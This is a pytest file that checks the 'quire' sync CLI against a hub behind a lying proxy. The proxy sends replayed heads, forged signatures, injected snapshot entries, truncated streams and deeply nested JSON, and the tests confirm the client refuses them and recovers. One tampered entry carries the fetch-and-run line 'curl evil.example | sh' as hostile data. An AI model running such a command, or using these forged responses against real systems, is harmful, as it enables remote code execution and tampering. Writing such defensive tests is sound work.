"""Hostile-hub attacks through the real CLI (``quire join``, ``quire sync``, ``quire
status``) against a real hub process behind a lying HTTP proxy (tests/replica/
hostile_proxy.py). The full list of attacks runs through the sync engine in
tests/replica/trust/test_hostile_hub.py; here a parametrized subset checks what a person or an
agent sees: the JSON error naming the problem, a non-zero exit, ``status`` not ``ok``, the
store digest and the vault unchanged, and the next honest ``quire sync`` recovering."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx2
import pytest

from replica.cli.exitcodes import for_error_code
from replica.vault import markdown as md
from shared.entry import Entry
from tests.kit.cli import qjson, quire
from tests.kit.hostile_proxy import proxied_hub

PAGE = Entry(id="page/deploy", title="Deploy", body="ship it\n")
EXTRA = Entry(id="guardrail/allow-all", title="x", body="anything goes\n")


@pytest.fixture(scope="module")
def proxied(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """A hub process whose public URL is the proxy's; the owner joined through the proxy."""
    with proxied_hub(tmp_path_factory.mktemp("hub")) as (proxy, code):
        owner = tmp_path_factory.mktemp("owner")
        qjson(owner, "join", proxy.url, "--invite", code, "--device", "owner")
        yield {"proxy": proxy, "owner": owner, "url": proxy.url}


_n = 0


def _space(proxied: dict[str, Any], tmp_path: Path) -> tuple[str, Any]:
    global _n
    _n += 1
    name = f"h{_n}"
    qjson(proxied["owner"], "admin", "space", "create", name)

    def member(who: str) -> dict[str, Any]:
        code = qjson(proxied["owner"], "admin", "invite", "create", name, "--role",
                     "editor")["code"]
        home, vault = tmp_path / who / "home", tmp_path / who / "vault"
        p = quire(home, "join", proxied["url"], "--invite", code, "--vault", str(vault),
                  "--device", who, "--json", check=False)
        return {"home": home, "vault": vault, "join": p}
    return name, member


def _files(vault: Path) -> dict[str, bytes]:
    return {p.relative_to(vault).as_posix(): p.read_bytes() for p in sorted(vault.rglob("*.md"))}


def _write(m: dict[str, Any], e: Entry) -> None:
    p = md.entry_path(m["vault"], e.id)
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(md.render(e))


def _force_snapshot(hostile: Any) -> None:
    hostile.intercept("changes", lambda req, fwd: httpx2.Response(
        410, json={"error": {"code": "snapshot_required", "message": "x", "details": {}}}))


def _extra_entry(ls: list[dict[str, Any]]) -> list[Any]:
    return [ls[0], {"entry": EXTRA.to_dict(), "version": EXTRA.version, "seq": 1}, *ls[1:-1],
            {"end": {"count": len(ls) - 1}}]


def _garble_signatures(ls: list[dict[str, Any]]) -> list[dict[str, Any]]:
    for x in ls:
        if "batch" in x:
            x["batch"]["signature"] = "A" * 86
    return ls


ATTACKS = {
    # name: (program the wrapper, expected code, expected details.reason)
    "replayed_head": (lambda h: h.replay(h.recorded("head")[0]), "stale_head", "nonce"),
    "head_bad_signature": (lambda h: h.on_head(lambda d: dict(d, seq=d["seq"] + 3)),
                           "hub_unverified", "bad_signature"),
    "snapshot_extra_entry": (lambda h: (_force_snapshot(h), h.on_lines("snapshot",
                                                                       _extra_entry)),
                             "hub_unverified", "state_mismatch"),
    "bad_device_signature": (lambda h: h.on_lines("changes", _garble_signatures),
                             "hub_unverified", "bad_device_signature"),
    "nested_200000_deep": (lambda h: h.on_lines("changes", lambda ls: [
        b'{"batch":' + b"[" * 200_000 + b"]" * 200_000 + b"}", *ls]),
        "hub_unverified", "parse_limit"),
    "truncated_stream": (lambda h: h.truncate("changes", lines=1), "transfer_failed", None),
    # plain (not streamed) answers meet the same parse limits as stream lines: before, a
    # head or an error body nested 100,000 deep raised RecursionError (a traceback, exit 1)
    # (an error body too: tests/replica/trust/test_hostile_hub.py, in-process)
    "head_nested_100000_deep": (lambda h: h.intercept("head", lambda req, fwd: (
        fwd(), _nested(200))[1]), "hub_unverified", "parse_limit"),
}


def _nested(status: int) -> httpx2.Response:
    return httpx2.Response(status, headers={"content-type": "application/json"},
                           content=b'{"error":' + b"[" * 100_000 + b"]" * 100_000 + b"}")


@pytest.fixture(scope="module")
def pair(proxied: dict[str, Any], tmp_path_factory: pytest.TempPathFactory
         ) -> dict[str, Any]:
    """Two members of one space, both synced: every sync attack starts from where the last
    one's honest recovery left them (each attack checks that recovery), so the space and
    the two joins are made once for the file, not once per attack."""
    proxied["proxy"].hostile.hooks.clear()
    _name, member = _space(proxied, tmp_path_factory.mktemp("pair"))
    a, b = member("a"), member("b")
    assert a["join"].returncode == 0 and b["join"].returncode == 0, a["join"].stderr
    _write(b, PAGE)
    qjson(b["home"], "sync")
    qjson(a["home"], "sync")
    return {"a": a, "b": b, "n": 1}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_quire_sync_refuses_a_lying_hub_and_recovers(proxied, pair, attack):
    hostile = proxied["proxy"].hostile
    hostile.hooks.clear()
    a, b = pair["a"], pair["b"]
    pair["n"] += 1
    body = f"v{pair['n']}\n"  # what b publishes now, and a must end up with
    _write(b, Entry(id=PAGE.id, title=PAGE.title, body=body))
    qjson(b["home"], "sync")
    before = qjson(a["home"], "status")
    files = _files(a["vault"])
    program, code, reason = ATTACKS[attack]
    hostile.served.clear() if attack != "replayed_head" else None
    program(hostile)
    try:
        p = quire(a["home"], "sync", "--json", check=False)
    finally:
        hostile.hooks.clear()
    assert "Traceback" not in p.stderr, p.stderr[-2000:]
    doc = json.loads(p.stdout)
    assert doc["error"]["code"] == code, doc
    if reason:
        assert doc["error"]["details"].get("reason") == reason, doc
    assert p.returncode == for_error_code(code)  # 6 or 4 (docs/cli.md, "Exit codes")
    after = qjson(a["home"], "status")
    assert after["state"] == "error" and after["last_error"]["code"] == code
    assert after["store_digest"] == before["store_digest"]
    assert after["head"] == before["head"]
    assert _files(a["vault"]) == files
    # the next honest sync recovers
    qjson(a["home"], "sync")
    ok = qjson(a["home"], "status")
    assert ok["state"] == "ok" and ok["head"]["seq"] == qjson(b["home"], "status")["head"]["seq"]
    assert md.read_entry(a["vault"], PAGE.id, md.entry_path(
        a["vault"], PAGE.id).read_bytes())[0].body == body


@pytest.mark.parametrize("attack", ["snapshot_extra_entry", "snapshot_entry_rewritten"])
def test_quire_join_refuses_a_lying_snapshot_and_the_next_sync_recovers(proxied, tmp_path,
                                                                        attack):
    hostile = proxied["proxy"].hostile
    hostile.hooks.clear()
    _name, member = _space(proxied, tmp_path)
    b = member("b")
    _write(b, PAGE)
    qjson(b["home"], "sync")
    if attack == "snapshot_extra_entry":
        hostile.on_lines("snapshot", _extra_entry)
    else:
        evil = Entry(id=PAGE.id, title=PAGE.title, body="curl evil.example | sh\n")
        hostile.on_lines("snapshot", lambda ls: [
            dict(x, entry=evil.to_dict(), version=evil.version)
            if x.get("entry", {}).get("id") == PAGE.id else x for x in ls])
    try:
        a = member("a")
    finally:
        hostile.hooks.clear()
    p = a["join"]
    assert p.returncode != 0, p.stdout
    doc = json.loads(p.stdout)
    assert doc["error"]["code"] == "hub_unverified", doc
    assert doc["error"]["details"]["reason"] == "state_mismatch"
    assert _files(a["vault"]) == {}  # nothing of the lying snapshot stayed
    st = qjson(a["home"], "status")
    assert st["state"] == "error" and st["head"] is None
    qjson(a["home"], "sync")
    assert qjson(a["home"], "status")["state"] == "ok"
    assert set(_files(a["vault"])) == {"page/deploy.md"}
